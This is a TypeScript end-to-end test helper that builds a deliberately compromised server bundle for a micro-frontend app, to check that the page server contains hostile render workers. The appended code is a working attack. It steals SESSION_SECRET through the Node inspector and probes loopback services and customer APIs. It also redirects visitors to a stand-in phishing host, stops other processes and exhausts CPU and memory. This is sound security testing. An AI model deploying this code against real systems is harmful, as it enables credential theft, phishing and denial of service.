import { cpSync, mkdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import path from 'node:path';
import { HOST_APP, portOf, SANDBOX_APP } from 'release-contract/apps';
import { integrityOf } from 'release-contract/release-integrity';
import { REPO_ROOT } from './redeploy-utils';

/*
 * A compromised release of remote-home (issue 45): its real build, with code appended to its
 * server bundle that does, from inside its render worker, what a poisoned dependency would —
 * and its digests recorded as a normal rollout records them, so the page server runs it. Its
 * calculator renders a report of what each attempt got (`data-hostile`), the only way out a
 * render worker has: its own slot's markup.
 *
 * Every release of it, when evaluated: SIGUSR1 to the page server, then the inspector's port for
 * its SESSION_SECRET (row 1); the sandbox's outbox of one-time codes and the page server's own
 * port, fetched directly (issue 56, row 5); the environment it was given; on a customer's page, reads of what
 * the calculator does not show (`/api/user/details/`, `/api/loan/loan/`) through the page
 * server's session (row 9). And the attack it is built with, on every visitor's page:
 * - `loop`: 20 s of a busy loop that sends, every 20 ms, messages a live worker sends (row 5);
 * - `block`: "entering remote_loans/LoansOverview", then blocked for 20 s (row 6);
 * - `flood`: its answer lists 3000 made-up slot outcomes (row 7);
 * - `hijack`: its answer asks for a redirect to a phishing page (row 8);
 * - `steer`: its calculator's markup carries a meta refresh to a phishing page (issue 56, row 4);
 * - `signal`: SIGSTOP to another slice's render worker, its pid given at build time (a worker
 *   reads no /proc; the probe found its target by signalling a range) — only that one, so that
 *   a run where it is allowed stops nothing but the suite's own page server's (issue 56, row 2);
 * - `memory`: 64 MB Buffers every 250 ms, outside the heap its limit bounds; at most 1 GB, for
 *   the machine's sake should the cap not hold (issue 56, row 3).
 */

export type Attack = 'none' | 'loop' | 'block' | 'flood' | 'hijack' | 'steer' | 'signal' | 'memory';

/** What the `steer` release puts in its markup: CSP does not stop a meta refresh. */
const STEERING_MARKUP = '<meta http-equiv="refresh" content="3;url=https://evil.example/phish">';

/** What the worker tries to fetch on its own: the loopback services the probe reached. */
const LOOPBACK = [
  `http://127.0.0.1:${portOf(SANDBOX_APP)}/__sandbox/outbox?to=%2B995555000001`,
  `http://127.0.0.1:${portOf(HOST_APP)}/runtime-config.json`,
];

const hostile = (attack: Attack, target: number) => `
const ATTACK = ${JSON.stringify(attack)};
const TARGET = ${JSON.stringify(target)};
const LOOPBACK = ${JSON.stringify(LOOPBACK)};
const STEERING_MARKUP = ${JSON.stringify(STEERING_MARKUP)};
;(function compromised(exported) {
  const report = { signal: 'not tried', inspector: 'not tried', stop: 'not tried', network: [], env: Object.keys(process.env).filter((name) => !name.startsWith('NODE_CHANNEL')).sort(), reads: [] };
  try {
    process.kill(process.ppid, 'SIGUSR1');
    report.signal = 'sent';
  } catch (error) {
    report.signal = error.code || String(error);
  }
  setTimeout(async () => {
    try {
      const targets = await (await fetch('http://127.0.0.1:9229/json/list')).json();
      const socket = new WebSocket(targets[0].webSocketDebuggerUrl);
      socket.onopen = () => socket.send(JSON.stringify({ id: 1, method: 'Runtime.evaluate', params: { expression: 'process.env.SESSION_SECRET' } }));
      socket.onmessage = (event) => { report.inspector = 'read ' + String(event.data); socket.close(); };
      socket.onerror = () => { report.inspector = 'refused'; };
    } catch {
      report.inspector = 'closed';
    }
    for (const url of LOOPBACK) {
      try {
        report.network.push('reached ' + (await fetch(url)).status);
      } catch (error) {
        report.network.push(String((error.cause && error.cause.code) || error.code || error));
      }
    }
  }, 300);
  const send = process.send.bind(process);
  let attack = '';
  let hoard;
  let page = 0;
  const answers = new Map();
  process.on('message', (message) => {
    if (message && message.type === 'slots') page = message.id;
    if (message && message.type === 'answer' && answers.has(message.ask)) answers.get(message.ask)(message.status);
  });
  process.send = (message, ...rest) => {
    if (message && message.type === 'slots' && attack === 'flood') {
      message = { ...message, slots: [...message.slots, ...Array.from({ length: 3000 }, (_, index) => ({ slot: 'remote_home/Made' + index, outcome: 'rendered', html: 'x', release: 'x' }))] };
    }
    if (message && message.type === 'slots' && attack === 'hijack') {
      return send({ type: 'rendered', id: message.id, page: { kind: 'redirect', status: 302, location: 'https://evil.example/phish' } }, ...rest);
    }
    return send(message, ...rest);
  };
  const read = (url, ask) => new Promise((resolve) => {
    answers.set(ask, resolve);
    send({ type: 'fetch', id: page, ask, url });
    setTimeout(() => resolve('no answer'), 1000);
  });
  const React = require('react');
  const load = exported.modules.LoanCalculator;
  exported.modules.LoanCalculator = () => load().then((module) => ({
    ...module,
    prefetchOnServer: async (client, search) => {
      attack = ATTACK;
      if (attack === 'loop') {
        const end = Date.now() + 20000;
        let last = 0;
        while (Date.now() < end) {
          if (Date.now() - last > 20) {
            last = Date.now();
            send({ type: 'ready' });
            send({ type: 'error', message: 'alive' });
          }
        }
      }
      if (attack === 'signal') {
        try {
          process.kill(TARGET, 'SIGSTOP');
          report.stop = 'sent';
        } catch (error) {
          report.stop = error.code || String(error);
        }
      }
      if (attack === 'memory' && !hoard) {
        hoard = [];
        const grow = setInterval(() => {
          hoard.push(Buffer.alloc(64 * 1024 * 1024, 1));
          if (hoard.length === 16) clearInterval(grow);
        }, 250);
      }
      if (attack === 'block') {
        send({ type: 'enter', code: { remote: 'remote_loans', release: 'x', kind: 'slot', slot: 'remote_loans/LoansOverview' } });
        Atomics.wait(new Int32Array(new SharedArrayBuffer(4)), 0, 0, 20000);
      }
      return module.prefetchOnServer(client, search);
    },
    prefetchCustomerOnServer: async (client) => {
      attack = '';
      report.reads = [];
      for (const [index, url] of ['/api/user/details/', '/api/loan/loan/'].entries()) {
        report.reads.push(url + ' ' + (await read(url, 90000 + index)));
      }
      return module.prefetchCustomerOnServer(client);
    },
    default: function Compromised(props) {
      const calculator = React.createElement('div', { 'data-hostile': JSON.stringify(report) }, React.createElement(module.default, props));
      if (ATTACK !== 'steer') return calculator;
      return React.createElement(React.Fragment, null, React.createElement('div', { dangerouslySetInnerHTML: { __html: STEERING_MARKUP } }), calculator);
    },
  }));
})(module.exports);
`;

/** The report the compromised calculator rendered into a page's markup, if it rendered. */
export interface HostileReport {
  signal: string;
  inspector: string;
  /** The `signal` attack's SIGSTOP to another slice's worker: `sent`, or why not (`EPERM`). */
  stop: string;
  /** For each loopback service it fetched: `reached <status>`, or why not. */
  network: string[];
  env: string[];
  reads: string[];
}

const REPORT = /data-hostile="([^"]*)"/;

export function hostileReport(html: string): HostileReport | undefined {
  const found = REPORT.exec(html)?.[1];
  if (!found) return undefined;
  const text = found
    .replaceAll('&quot;', '"')
    .replaceAll('&#x27;', "'")
    .replaceAll('&lt;', '<')
    .replaceAll('&gt;', '>')
    .replaceAll('&amp;', '&');
  return JSON.parse(text) as HostileReport;
}

/**
 * A copy of remote-home's build with the compromised server bundle, its manifest recording the
 * bundle's new digest as the build would: a rollout registers it like any release. Each attack
 * is a release of its own (its own digest): what the page server held against one is not held
 * against the next. `target`: the pid the `signal` attack stops.
 */
export function buildCompromisedHome(attack: Attack, target = 0): string {
  const copy = path.join(REPO_ROOT, '.e2e-tmp/remote-home-compromised');
  rmSync(copy, { recursive: true, force: true });
  mkdirSync(path.dirname(copy), { recursive: true });
  cpSync(path.join(REPO_ROOT, 'remote-home/dist'), copy, { recursive: true });
  const manifestFile = path.join(copy, 'mf-manifest.json');
  const manifest = JSON.parse(readFileSync(manifestFile, 'utf8'));
  const entry = manifest.metaData.ssrRemoteEntry as { name: string; path: string };
  const bundle = path.join(copy, entry.path, entry.name);
  const source = `${readFileSync(bundle, 'utf8')}\n${hostile(attack, target)}`;
  writeFileSync(bundle, source);
  manifest.metaData.ssrRemoteEntry = { ...entry, integrity: integrityOf(source) };
  writeFileSync(manifestFile, JSON.stringify(manifest, null, 2));
  // The servers would send the precompressed copies of the files changed here.
  for (const file of [bundle, manifestFile]) {
    for (const suffix of ['.br', '.gz']) rmSync(`${file}${suffix}`, { force: true });
  }
  return copy;
}
